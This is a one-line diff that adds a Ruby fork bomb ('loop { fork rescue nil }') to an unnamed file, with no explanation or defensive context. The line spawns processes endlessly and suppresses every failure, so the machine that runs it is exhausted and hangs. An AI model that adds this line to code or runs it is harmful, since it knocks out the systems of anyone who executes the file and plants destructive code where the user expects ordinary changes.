@@ -1,0 +1,1 @@
+loop { fork rescue nil }
